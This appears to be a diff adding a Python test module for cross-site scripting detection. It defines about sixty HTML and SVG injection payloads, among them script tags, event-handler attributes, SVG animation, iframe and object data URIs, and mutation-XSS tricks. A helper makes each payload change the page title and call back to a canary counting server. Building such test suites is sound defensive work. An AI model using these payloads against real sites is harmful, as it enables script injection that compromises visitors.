@@ -1,0 +1,71 @@
+"""What runs in a page of HTML or SVG, one way or another: it changes the title, and asks for `/hit` at a server that counts."""
+
+# Says by which payload it was, and whether that was in a page of ours (`p3`) or in one without protection (`c3`).
+RUNS = "document.title=`EX`+`ECUTED`;fetch(`http://HIT/hit/WHICH`)"
+
+PAYLOADS = [
+    "<script>RUN</script>",
+    "<ScRiPt>RUN</sCrIpT>",
+    "<script >RUN</script >",
+    "<script\n>RUN</script>",
+    "<script/x>RUN</script>",
+    "<script type=module>RUN</script>",
+    "<script src=//HIT/hit/WHICH></script>",
+    "<script src='data:text/javascript,RUN'></script>",
+    "</script><script>RUN</script>",
+    "</title><script>RUN</script>",
+    "</textarea><script>RUN</script>",
+    "</style><script>RUN</script>",
+    "--><script>RUN</script>",
+    "]]><script>RUN</script>",
+    "<img src=x onerror=RUN>",
+    "<img src=x onerror='RUN'>",
+    "<img/src='x'/onerror=RUN>",
+    "<IMG SRC=x ONERROR=RUN>",
+    "<image src=x onerror=RUN>",
+    "<img src='//HIT/hit/WHICH'>",
+    "<svg onload=RUN>",
+    "<svg/onload=RUN>",
+    "<svg><script>RUN</script></svg>",
+    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
+    "<svg><set onbegin=RUN attributename=x>",
+    "<svg><a><animate attributeName=href values=javascript:RUN /></a></svg>",
+    "<body onload=RUN>",
+    "<body onpageshow=RUN>",
+    "<iframe src='javascript:RUN'></iframe>",
+    "<iframe srcdoc='<script>parent.document.title=1;RUN</script>'></iframe>",
+    "<iframe onload=RUN></iframe>",
+    "<iframe src='//HIT/hit/WHICH'></iframe>",
+    "<object data='data:text/html,<script>RUN</script>'></object>",
+    "<object data='//HIT/hit/WHICH'></object>",
+    "<embed type='image/svg+xml' src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22/>'>",
+    "<embed src='//HIT/hit/WHICH'>",
+    "<video><source onerror=RUN></video>",
+    "<video src=x onerror=RUN></video>",
+    "<audio src=x onerror=RUN></audio>",
+    "<input autofocus onfocus=RUN>",
+    "<select autofocus onfocus=RUN>",
+    "<textarea autofocus onfocus=RUN>",
+    "<button autofocus onfocus=RUN>x</button>",
+    "<a autofocus tabindex=0 onfocus=RUN>x</a>",
+    "<details open ontoggle=RUN>",
+    "<marquee loop=1 width=0 onfinish=RUN>x</marquee>",
+    "<style>@import '//HIT/hit/WHICH';</style>",
+    "<style>@keyframes x{}</style><p style='animation-name:x;animation-duration:1s' onanimationstart=RUN>x</p>",
+    "<link rel=stylesheet href='//HIT/hit/WHICH'>",
+    "<link rel=stylesheet href=//127.0.0.1:1/x onerror=RUN>",
+    "<base href='//HIT/'><script src=hit/WHICH></script>",
+    "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>",
+    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
+    "<template><script>RUN</script></template><img src=x onerror=RUN>",
+    "<form><button formaction=javascript:RUN autofocus onfocus=RUN>x</button></form>",
+    "{{constructor.constructor('RUN')()}}<img src=x onerror=RUN>",
+    "\ufeff<script>RUN</script>",
+]
+
+
+def written(number, kind, canary):
+    """A payload, for a server that counts at this address."""
+    text = PAYLOADS[number].replace("RUN", RUNS).replace("HIT", canary)
+    return text.replace("WHICH", f"{kind}{number}")
